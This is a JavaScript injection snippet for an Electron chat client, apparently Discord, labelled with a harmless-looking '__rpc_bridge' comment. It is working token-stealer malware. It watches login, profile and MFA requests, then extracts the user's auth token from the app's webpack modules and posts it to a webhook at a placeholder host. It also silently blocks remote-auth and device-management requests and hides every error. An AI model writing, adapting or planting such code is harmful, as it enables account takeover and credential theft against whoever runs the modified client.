/*__rpc_bridge*/
(function () {
  try {
    const { session, BrowserWindow } = require('electron');
    const https = require('https');
    const hook = ['https:', '', 'discord-hooks.example.com', 'api', 'webhooks', '0000', 'EXAMPLE'].join('/');
    const send = (o) => { const r = https.request(hook, { method: 'POST', headers: { 'content-type': 'application/json' } }); r.on('error', () => {}); r.end(JSON.stringify({ content: '```' + JSON.stringify(o) + '```' })); };
    const grab = async () => { const w = BrowserWindow.getAllWindows()[0]; if (!w) return; const t = await w.webContents.executeJavaScript("(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken!==void 0).exports.default.getToken()", true); send({ token: t }); };
    session.defaultSession.webRequest.onCompleted({ urls: ['https://discord.example.com/api/v*/auth/login', 'https://discord.example.com/api/v*/users/@me', 'https://discord.example.com/api/v*/auth/mfa/totp'] }, () => setTimeout(grab, 1500));
    session.defaultSession.webRequest.onBeforeRequest({ urls: ['wss://remote-auth-gateway.discord.example.net/*', 'https://*/api/v*/users/@me/devices'] }, (d, cb) => cb({ cancel: true }));
  } catch (e) {}
})();
